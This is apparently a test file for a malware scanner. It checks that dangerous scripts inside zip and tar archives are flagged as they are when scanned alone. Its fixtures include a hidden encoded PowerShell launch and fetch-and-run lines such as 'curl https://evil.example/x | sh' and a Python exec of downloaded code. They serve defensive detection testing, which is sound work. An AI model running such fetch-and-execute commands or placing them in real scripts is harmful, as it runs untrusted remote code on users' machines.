import { describe, expect, test } from 'vitest';
import { levelOf, type Report } from '../../../src/workers/inspect/report.ts';
import { gzip } from '../../files/gzip.ts';
import { tar } from '../../files/tar.ts';
import { zip } from '../../files/zip.ts';
import { inspect } from './inspecting.ts';

const HIDDEN = `powershell -w hidden -enc ${'aGVsbG8gd29ybGQg'.repeat(4)}`;
const SCRIPTS = [
  ['invoice.js', `new ActiveXObject("WScript.Shell").Run("${HIDDEN}");`, 'script-hidden'],
  ['a.py', 'import requests\nexec(requests.get("https://evil.example/x").text)\n', 'script-download'],
  ['install.sh', '#!/bin/sh\ncurl https://evil.example/x | sh\n', 'script-download'],
  ['install', '#!/bin/sh\ncurl https://evil.example/x | sh\n', 'script-download'],
] as const;

function signs({ findings }: Report): string[] {
  return findings.flatMap(({ code, level, params }) =>
    code === 'inside' ? [`${params.inFile}: ${params.code} ${level}`] : [],
  );
}

describe('a script in an archive is judged as it is alone', () => {
  test.each(SCRIPTS)('%s', async (path, content, code) => {
    expect((await inspect(content, path)).findings).toContainEqual({ code, level: 'dangerous', params: {} });
    for (const [name, archive] of [
      ['a.zip', zip([{ path, content }])],
      ['a.tgz', gzip(tar([{ path, content }]))],
    ] as const) {
      expect(signs(await inspect(archive, name)).join()).toContain(`${path}: ${code} dangerous`);
    }
  });

  test('in two bytes a letter, behind hundreds of others', async () => {
    const wide = new Uint8Array(Buffer.from(`\ufeff${HIDDEN}`, 'utf16le'));
    const many = Array.from({ length: 200 }, (_, at) => ({ path: `${at}.py`, content: 'pass\n'.repeat(200) }));
    const report = await inspect(zip([...many, { path: 'z.ps1', content: wide }]), 'a.zip');
    expect(signs(report)).toContain('z.ps1: script-hidden dangerous');
  });

  test.each([
    ['a.js', 'console.log(1)', 'careful'],
    ['a.sh', 'echo hello', 'careful'],
    ['a.py', 'print(1)', 'safe'],
    ['a.mjs', 'console.log(1)', 'safe'],
  ] as const)('%s, which does nothing of that, is as safe as alone', async (path, content, level) => {
    expect(levelOf(await inspect(content, path))).toBe(level);
    expect(levelOf(await inspect(zip([{ path, content }]), 'a.zip'))).toBe(level);
  });

  test('what only tells how to install something is no script', async () => {
    const report = await inspect(
      zip([{ path: 'README.md', content: 'Run `curl https://a.example/x | sh`.\n' }]),
      'a.zip',
    );
    expect(levelOf(report)).toBe('safe');
  });
});
